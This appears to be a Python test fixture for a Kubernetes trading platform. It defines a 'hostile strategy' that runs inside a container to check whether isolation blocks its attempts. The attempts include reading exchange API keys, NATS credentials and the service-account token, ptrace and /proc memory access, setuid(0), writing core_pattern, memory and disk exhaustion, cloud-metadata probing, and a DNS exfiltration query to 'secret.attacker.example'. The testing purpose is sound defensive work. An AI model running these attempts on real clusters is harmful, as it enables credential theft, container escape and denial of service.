"""What a hostile strategy tries from inside its container; it comes to the cluster in a ConfigMap.

It stands alone: nothing of the tests is there. Every attempt returns what it has won, or raises what refused
it; the outcomes are printed, one line each, for whoever reads the container's log. A module `targets`, which
the test writes, says where the others are. As a program it does the same in a pod without guards.
"""

from __future__ import annotations

import ctypes
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from targets import TARGETS

from smarttrade import Strategy

MARK = "ATTEMPT "
DROPPED_S = 3.0
PATIENCE_S = 60.0
ATTEMPTS = {}
FILLINGS = {}
MEBIBYTE = 1024 * 1024
# Twice what the container may hold.
FILLING_MIB = 600
EXECUTION_PORT = 8083
# In the pod without guards elsewhere: else its execution's port could not be taken.
METRICS_PORT = int(os.environ.get("METRICS_PORT", EXECUTION_PORT))
SECRETS = Path("/etc/smarttrade")
LIBC = ctypes.CDLL(None, use_errno=True)
SHM = "/dev/shm"
NEW_HOST_NAMES = 0x04000000
ATTACH, DETACH = 16, 17


def attempt(function):
    ATTEMPTS[function.__name__.replace("_", "-")] = function
    return function


def filling(function):
    FILLINGS[function.__name__.replace("_", "-")] = function
    return function


def _call(name, *arguments):
    """A function of the C library; OSError when it fails."""
    if getattr(LIBC, name)(*arguments) == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return name


def _reach(target):
    host, _, port = TARGETS[target].rpartition(":")
    with socket.create_connection((host, int(port)), timeout=DROPPED_S):
        return f"connected to {target}"


def _read_metrics(host):
    """Execution's, once it listens: it may start later than this."""
    until = time.monotonic() + PATIENCE_S
    while True:
        try:
            url = f"http://{host}:{METRICS_PORT}/metrics"
            return urllib.request.urlopen(url, timeout=DROPPED_S).read(80).decode()
        except urllib.error.HTTPError:
            raise
        except OSError:
            if time.monotonic() > until:
                raise
            time.sleep(0.2)


def _others():
    """Processes that are not this container's."""
    own = os.getuid()
    found = [int(path.name) for path in Path("/proc").iterdir() if path.name.isdigit()]
    strangers = [pid for pid in found if pid != os.getpid() and not _is_own(pid, own)]
    if not strangers:
        raise ProcessLookupError("no process of another container")
    return strangers


def _is_own(pid, own):
    try:
        return Path(f"/proc/{pid}").stat().st_uid == own and own != 0
    except OSError:
        return True


# --- the pod's own other containers -------------------------------------------------------------------


@attempt
def take_executions_port():
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", EXECUTION_PORT))
        taken.listen()
        return "answers execution's probes"


@attempt
def read_executions_metrics():
    own = socket.gethostbyname(socket.gethostname())
    return _read_metrics(own)


@attempt
def read_executions_metrics_by_loopback():
    return _read_metrics("127.0.0.1")


@attempt
def command_execution():
    with socket.socket(socket.AF_UNIX) as wire:
        wire.settimeout(PATIENCE_S)
        wire.connect("/tmp/execution.sock")
        wire.sendall(b'{"command":"orders"}\n')
        told = wire.recv(4096).decode()
    if "may not command" in told:
        raise PermissionError(told)
    return told


@attempt
def read_exchange_key():
    return (SECRETS / "exchange" / "apiKey").read_text()


@attempt
def read_executions_credentials():
    return (SECRETS / "nats" / "execution.creds").read_text()[:40]


@attempt
def follow_the_volumes_links():
    hidden = [path.name for path in (SECRETS / "nats").rglob("*") if path.name.endswith(".creds")]
    return _unless_only({"evaluation.creds"}, set(hidden))


@attempt
def find_keys_in_the_environment():
    names = {name for name in os.environ if any(word in name for word in ("KEY", "SECRET", "TOKEN"))}
    return _unless_only(set(), names - {"GPG_KEY"})


@attempt
def read_environment_of_others():
    return Path(f"/proc/{_others()[0]}/environ").read_bytes()[:40].decode()


@attempt
def read_memory_of_others():
    with open(f"/proc/{_others()[0]}/mem", "rb") as memory:
        return f"opened {memory.name}"


@attempt
def trace_a_process():
    try:
        traced = _others()[0]
    except ProcessLookupError:
        traced = 1
    _call("ptrace", ATTACH, traced, None, None)
    os.waitpid(traced, 0)
    return _call("ptrace", DETACH, traced, None, None)


@attempt
def look_into_shared_memory():
    return _unless_only(set(), set(os.listdir(SHM)))


@attempt
def share_memory_of_system_v():
    return _call("shmget", 0x5353, 4096, 0o1666)


@attempt
def find_abstract_sockets():
    names = {line.split()[-1] for line in Path("/proc/net/unix").read_text().splitlines()[1:] if "@" in line}
    return _unless_only(set(), names)


# --- processes and privileges -------------------------------------------------------------------------


@attempt
def fork():
    child = os.fork()
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return "a process"


@attempt
def fork_bomb():
    children = [subprocess.Popen([sys.executable, "-c", "pass"]) for _ in range(20)]
    for child in children:
        child.wait()
    return f"{len(children)} processes"


@attempt
def become_root():
    os.setuid(0)
    return "is root"


@attempt
def open_a_raw_socket():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP):
        return "sees the pod's packets"


@attempt
def mount_something():
    return _call("mount", b"none", b"/mnt", b"tmpfs", 0, None)


@attempt
def leave_by_a_namespace():
    return _call("unshare", NEW_HOST_NAMES)


@attempt
def replace_the_platforms_code():
    path = Path(json.__file__).with_name("hostile.py")
    path.write_text("")
    path.unlink()
    return f"writes beside {json.__file__}"


@attempt
def change_how_cores_are_dumped():
    path = Path("/proc/sys/kernel/core_pattern")
    path.write_text(path.read_text())
    return "wrote core_pattern"


@attempt
def kill_everything():
    os.kill(_others()[0], signal.SIGCONT)
    return "signals others"


@attempt
def find_a_token_of_kubernetes():
    return Path("/var/run/secrets/kubernetes.io/serviceaccount/token").read_text()[:20]


# --- the node's memory and disk: in an account of its own, whose container does not survive it --------


def _fill(folder):
    """As much as twice the container's limit."""
    path, block = Path(folder) / "filling", b"x" * MEBIBYTE
    try:
        with path.open("wb") as file:
            for _ in range(FILLING_MIB):
                file.write(block)
                file.flush()
    finally:
        path.unlink(missing_ok=True)
    return f"{FILLING_MIB} MiB in {folder}"


@filling
def fill_shared_memory():
    return _fill(SHM)


@filling
def fill_the_temporary_folder():
    return _fill("/tmp")


@filling
def fill_the_disk():
    return _fill("/var/tmp")


@filling
def fill_memory():
    held = [bytearray(os.urandom(1)) * MEBIBYTE for _ in range(FILLING_MIB)]
    return f"{len(held)} MiB"


# --- the network --------------------------------------------------------------------------------------


def _network(name, target):
    def reach():
        return _reach(target)

    ATTEMPTS[name] = reach


for _name, _target in (
    ("reach-the-kubernetes-api", "api"),
    ("reach-the-api-on-its-node", "node api"),
    ("reach-the-kubelet", "kubelet"),
    ("reach-etcd", "etcd"),
    ("reach-another-accounts-pod", "victim"),
    ("reach-another-pod", "neighbour"),
    ("reach-the-simulators-administration", "simulator admin"),
    ("reach-nats-monitor", "nats monitor"),
    ("reach-nats-routes", "nats routes"),
    ("reach-the-operator", "operator"),
    ("reach-dns-readiness", "dns readiness"),
    ("reach-a-node-port", "node port"),
):
    _network(_name, _target)


@attempt
def ask_for_cloud_metadata():
    try:
        with socket.create_connection(("169.254.169.254", 80), timeout=DROPPED_S):
            return "the node's identity"
    except OSError as error:
        # Dropped by the policy, or without a route where the node has no cloud.
        raise ConnectionError(f"no way there: {error}") from error


@attempt
def leave_by_the_clusters_dns():
    return _ask_a_dns_server("dns", "secret.users.svc.cluster.local")


@attempt
def leave_by_another_dns_server():
    return _ask_a_dns_server("dns elsewhere", "secret.attacker.example")


def _ask_a_dns_server(target, name):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
        wire.settimeout(DROPPED_S)
        host, _, port = TARGETS[target].rpartition(":")
        wire.connect((host, int(port)))
        wire.send(_question(name))
        return wire.recv(512).hex()


def _question(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00\x00\x01\x00\x01"


# --- running them -------------------------------------------------------------------------------------


def _unless_only(own, found):
    if found <= own:
        raise FileNotFoundError("nothing but its own")
    return f"finds {sorted(found - own)}"


def _tell(row):
    """In one piece, whatever else is being logged."""
    os.write(1, f"\n{MARK}{json.dumps(row)}\n".encode())


def _try(name, attempt):
    try:
        outcome = {"prize": str(attempt())}
    except BaseException as error:  # noqa: BLE001
        outcome = {"words": f"{type(error).__name__}: {error}"}
    _tell({"attempt": name, **outcome})


def run():
    """Everything at once; dropped packets cost seconds, and they are waited for together."""
    with ThreadPoolExecutor(len(ATTEMPTS)) as pool:
        list(pool.map(_try, ATTEMPTS, ATTEMPTS.values()))
    _tell({"attempt": "end"})


def fill():
    """One after the other: the last one ends the container."""
    for name, attempt in FILLINGS.items():
        _try(name, attempt)


class Hostile(Strategy):
    """Trades nothing."""

    def __init__(self, *arguments):
        super().__init__(*arguments)
        threading.Thread(target=run, daemon=True).start()


class Filling(Strategy):
    """Trades nothing either."""

    def __init__(self, *arguments):
        super().__init__(*arguments)
        threading.Thread(target=fill, daemon=True).start()


def _await_neglected():
    """Until what is to be won in the pod without guards is there."""
    until = time.monotonic() + PATIENCE_S
    while not os.listdir(SHM) and time.monotonic() < until:
        time.sleep(0.1)


if __name__ == "__main__":
    _await_neglected()
    fill()
    run()
